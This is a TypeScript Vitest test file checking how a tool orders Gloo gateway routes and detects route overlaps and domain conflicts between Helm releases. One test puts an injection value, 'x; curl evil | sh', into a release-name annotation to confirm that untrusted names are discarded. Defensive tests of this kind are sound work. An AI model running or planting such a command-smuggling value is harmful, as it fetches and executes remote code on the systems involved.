import { describe, expect, test } from 'vitest'
import { describeOverlap, type RouteOverlap } from '../../../../../src/model/results/overlaps.js'
import { addedDomainConflicts, domainConflicts } from '../../../../../src/routing/gloo/overlaps/domains.js'
import { type GlooObject } from '../../../../../src/routing/gloo/objects/gloo-object.js'
import { isOfRelease } from '../../../../../src/routing/objects.js'
import { addedOverlaps, allOverlaps, overlapsOf } from '../../../../../src/routing/gloo/overlaps/overlaps.js'
import { servedRoutes } from '../../../../../src/routing/gloo/overlaps/served-routes.js'
import { sharedVirtualService } from '../../../../../src/routing/gloo/shared-virtual-service.js'

const SHARED = sharedVirtualService('example')

/** The RouteTable of a release of that name in a namespace of that name. */
function table(app: string, matchers: object[], spec: object = {}): GlooObject {
  const annotations = { 'meta.helm.sh/release-name': app, 'meta.helm.sh/release-namespace': app }
  const metadata = { name: `${app}-routes`, namespace: app, labels: { apiGroup: 'example' }, annotations }
  const routes = matchers.map((matcher) => ({ matchers: [matcher], routeAction: {} }))
  return { kind: 'RouteTable', metadata, spec: { routes, ...spec } }
}

function virtualService(name: string, virtualHost: object, more: object = {}): GlooObject {
  return {
    kind: 'VirtualService',
    metadata: { name, namespace: 'gloo-system' },
    spec: { virtualHost, ...more },
  }
}

const delegation = { delegateAction: { selector: { labels: { apiGroup: 'example' }, namespaces: ['*'] } } }
const isEcho = (object: GlooObject) => isOfRelease(object, { name: 'echo', namespace: 'echo' })

/** `echo/echo-routes prefix /a` before what it comes. */
function lines(overlaps: RouteOverlap[]): string[] {
  return overlaps.map(
    ({ winner, loser, certain, isWhole }) =>
      `${winner.namespace}: ${winner.matcher} > ${loser.namespace}: ${loser.matcher}${certain ? '' : ' ?'}${isWhole ? ' whole' : ''}`,
  )
}

function served(service: GlooObject, tables: GlooObject[]): string[] {
  return servedRoutes(service, tables).map(
    ({ owner, matcher }) => `${owner.metadata.namespace} ${matcher.path.text}`,
  )
}

describe('the order in which the proxy looks at routes', () => {
  const [a, b] = [{ prefix: '/a' }, { prefix: '/b' }]
  test.each<[what: string, tables: GlooObject[], order: string[]]>([
    ['paths descend', [table('x', [a]), table('y', [b])], ['y /b', 'x /a']],
    ['the first namespace, of one path', [table('y', [a]), table('x', [a])], ['x /a', 'y /a']],
    ['the lower weight', [table('x', [b], { weight: 1 }), table('y', [a])], ['y /a', 'x /b']],
    [
      'an exact path',
      [table('x', [{ prefix: '/same/more' }]), table('y', [{ exact: '/a' }])],
      ['y /a', 'x /same/more'],
    ],
    ['more methods', [table('x', [b]), table('y', [{ ...a, methods: ['GET'] }])], ['y /a', 'x /b']],
    ['as listed, within one table', [table('x', [a, b])], ['x /a', 'x /b']],
  ])('%s', (_what, tables, order) => {
    expect(served(SHARED, tables)).toEqual(order)
  })

  test('tables stand in the place of the delegation, which its own routes come before and after', () => {
    const service = virtualService('app', {
      routes: [{ matchers: [{ exact: '/first' }] }, delegation, { matchers: [{ prefix: '/' }] }],
    })
    expect(served(service, [table('x', [a])])).toEqual(['gloo-system /first', 'x /a', 'gloo-system /'])
  })

  test('routes outside what is delegated are dropped, and those of tables of tables inherit', () => {
    const inherits = { inheritablePathMatchers: true, matchers: [{ methods: ['GET'] }], routeAction: {} }
    const inner = table('inner', [], { routes: [inherits] })
    inner.metadata.labels = {}
    const outer = table('outer', [], {
      routes: [
        {
          matchers: [{ prefix: '/api/v1' }],
          delegateAction: { ref: { name: 'inner-routes', namespace: 'inner' } },
        },
        { matchers: [{ prefix: '/elsewhere' }], routeAction: {} },
      ],
    })
    const service = virtualService('app', { routes: [{ matchers: [{ prefix: '/api' }], ...delegation }] })
    expect(served(service, [inner, outer])).toEqual(['inner /api/v1'])
  })

  test('tables that delegate to each other end somewhere', () => {
    const to = (name: string) => ({ delegateAction: { ref: { name: `${name}-routes`, namespace: name } } })
    const [x, y] = [table('x', [], { routes: [to('y')] }), table('y', [], { routes: [to('x')] })]
    expect(served(SHARED, [x, y])).toEqual([])
  })
})

describe('overlaps', () => {
  test('of an app with others: who comes first, of what, and on which domains', () => {
    const foxtrot = table('foxtrot', [{ prefix: '/foxtrot' }])
    const routeTables = [table('echo', [{ prefix: '/foxtrot' }, { prefix: '/echo' }]), foxtrot]

    const [found, ...more] = overlapsOf({ virtualServices: [SHARED], routeTables }, isEcho)

    expect(more).toEqual([])
    expect(found).toMatchObject({ own: 'winner', certain: true, isWhole: true, domains: ['*'] })
    expect(describeOverlap(found!)).toBe(
      'prefix /foxtrot of RouteTable echo/echo-routes (Helm release echo in namespace echo) comes first and takes all ' +
        'requests of prefix /foxtrot of RouteTable foxtrot/foxtrot-routes (Helm release foxtrot in namespace foxtrot); ' +
        'VirtualService gloo-system/app, domains *',
    )
  })

  test.each<[what: string, echo: object[], other: object[], found: string[]]>([
    ['none', [{ prefix: '/echo' }], [{ prefix: '/other' }], []],
    [
      'of one method',
      [{ prefix: '/a' }],
      [{ exact: '/a', methods: ['GET'] }],
      ['other: exact /a, GET > echo: prefix /a'],
    ],
    ['of disjoint methods', [{ prefix: '/a', methods: ['PUT'] }], [{ prefix: '/a', methods: ['GET'] }], []],
    [
      'that may be',
      [{ prefix: '/echo' }],
      [{ regex: '/.*png' }],
      ['other: regex /.*png > echo: prefix /echo ?'],
    ],
    [
      'of a path within',
      [{ prefix: '/echo' }],
      [{ prefix: '/echo/a' }],
      ['other: prefix /echo/a > echo: prefix /echo'],
    ],
    [
      'of a name that only begins alike',
      [{ prefix: '/echo' }],
      [{ prefix: '/echo-admin' }, { exact: '/echo2' }],
      [],
    ],
    [
      'with header routes of a rollout, once',
      [{ prefix: '/a', headers: [{ name: 'stage', value: 'canary' }] }, { prefix: '/a' }],
      [{ prefix: '/a', headers: [{ name: 'stage', value: 'canary' }] }, { prefix: '/a' }],
      ['echo: prefix /a > other: prefix /a whole'],
    ],
  ])('%s', (_what, echo, other, found) => {
    const routes = { virtualServices: [SHARED], routeTables: [table('echo', echo), table('other', other)] }
    expect(lines(overlapsOf(routes, isEcho))).toEqual(found)
    expect(lines(allOverlaps(routes))).toEqual(found)
  })

  test('a shorter name that comes first takes all of a longer one', () => {
    const routeTables = [
      table('echo', [{ prefix: '/echo' }], { weight: -1 }),
      table('other', [{ prefix: '/echo2' }]),
    ]
    const found = overlapsOf({ virtualServices: [SHARED], routeTables }, isEcho)
    expect(lines(found)).toEqual(['echo: prefix /echo > other: prefix /echo2 whole'])
  })

  test('routes on other domains, and of tables that nobody selects, are in nobody’s way', () => {
    const own = virtualService('own', {
      domains: ['echo.example.com'],
      routes: [{ delegateAction: { ref: { name: 'echo-routes', namespace: 'echo' } } }],
    })
    const echo = table('echo', [{ prefix: '/' }])
    echo.metadata.labels = {}
    const routes = { virtualServices: [SHARED, own], routeTables: [echo, table('other', [{ prefix: '/a' }])] }
    expect(overlapsOf(routes, isEcho)).toEqual([])
  })

  test('a release whose name can be none, in an annotation of anybody, is left out', () => {
    const other = table('other', [{ prefix: '/echo' }])
    other.metadata.annotations = {
      'meta.helm.sh/release-name': 'x; curl evil | sh',
      'meta.helm.sh/release-namespace': 'x',
    }
    const routes = { virtualServices: [SHARED], routeTables: [table('echo', [{ prefix: '/echo' }]), other] }
    expect(overlapsOf(routes, isEcho)[0]?.loser.release).toBeUndefined()
  })

  test('two tables of one release overlap with nobody', () => {
    const more = {
      ...table('echo', [{ prefix: '/echo' }]),
      metadata: { ...table('echo', []).metadata, name: 'more' },
    }
    const routeTables = [table('echo', [{ prefix: '/echo' }]), more]
    expect(allOverlaps({ virtualServices: [SHARED], routeTables })).toEqual([])
  })

  describe('that a change adds', () => {
    const other = table('other', [{ prefix: '/a' }, { prefix: '/b' }])
    const world = (matchers: object[]) => ({
      virtualServices: [SHARED],
      routeTables: [table('echo', matchers), other],
    })
    const canary = { headers: [{ name: 'stage', value: 'canary' }] }
    test.each<[what: string, before: object[], after: object[], added: string[]]>([
      ['what is there already is not', [{ prefix: '/a' }], [{ prefix: '/a' }], []],
      [
        'a header route within it is not',
        [{ prefix: '/a' }],
        [{ prefix: '/a', ...canary }, { prefix: '/a' }],
        [],
      ],
      ['less of it is not', [{ prefix: '/a' }], [{ prefix: '/a/b' }], []],
      [
        'another path is',
        [{ prefix: '/a' }],
        [{ prefix: '/a' }, { prefix: '/b' }],
        ['echo: prefix /b > other: prefix /b whole'],
      ],
      [
        'all of it is, after some',
        [{ prefix: '/a/b' }],
        [{ prefix: '/a' }],
        ['echo: prefix /a > other: prefix /a whole'],
      ],
    ])('%s', (_what, before, after, added) => {
      expect(lines(addedOverlaps(world(before), world(after), isEcho))).toEqual(added)
    })

    test('to come first where the other came first is one', () => {
      const rival = table('aaa', [{ prefix: '/a' }])
      const around = (matchers: object[]) => ({
        virtualServices: [SHARED],
        routeTables: [rival, table('echo', matchers)],
      })
      const [before, after] = [around([{ prefix: '/a' }]), around([{ prefix: '/a', methods: ['GET'] }])]
      expect(lines(addedOverlaps(before, after, isEcho))).toEqual(['echo: prefix /a, GET > aaa: prefix /a'])
    })
  })
})

describe('domains that several VirtualServices have', () => {
  const all = virtualService('all', {})
  const named = (name: string, domains: string[], more?: object) => virtualService(name, { domains }, more)
  test.each<[what: string, services: GlooObject[], conflicts: string[]]>([
    ['none is all', [all, named('star', ['*'])], ['*: all, star']],
    ['an empty one is all', [all, named('empty', [''])], ['*: all, empty']],
    ['another one is none', [all, named('a', ['a.example.com']), named('b', ['*.example.com'])], []],
    [
      'case does not count',
      [named('a', ['A.example.com']), named('b', ['a.example.com'])],
      ['a.example.com: a, b'],
    ],
    ['with TLS it is another Gateway', [all, named('tls', ['*'], { sslConfig: {} })], []],
    ['twice in one is one', [named('a', ['x', 'x'])], []],
  ])('%s', (_what, services, conflicts) => {
    const found = domainConflicts(services).map(
      ({ domain, attachments }) => `${domain}: ${attachments.map(({ name }) => name).join(', ')}`,
    )
    expect(found).toEqual(conflicts)
  })

  test('those that Gloo accepts all the same belong to different Gateways', () => {
    const status = (state: string) => ({ statuses: { 'gloo-system': { state } } })
    const [one, two] = [named('one', ['x']), named('two', ['x'])]
    expect(
      domainConflicts([
        { ...one, status: status('Accepted') },
        { ...two, status: status('Accepted') },
      ]),
    ).toEqual([])
    expect(
      domainConflicts([
        { ...one, status: status('Rejected') },
        { ...two, status: status('Rejected') },
      ]),
    ).toHaveLength(1)
  })

  test('one that is there already is not added', () => {
    expect(addedDomainConflicts([all], [all, SHARED])).toEqual([
      {
        domain: '*',
        attachments: [
          { kind: 'VirtualService', name: 'all', namespace: 'gloo-system' },
          { kind: 'VirtualService', name: 'app', namespace: 'gloo-system' },
        ],
      },
    ])
    expect(addedDomainConflicts([all, SHARED], [SHARED, all])).toEqual([])
  })
})
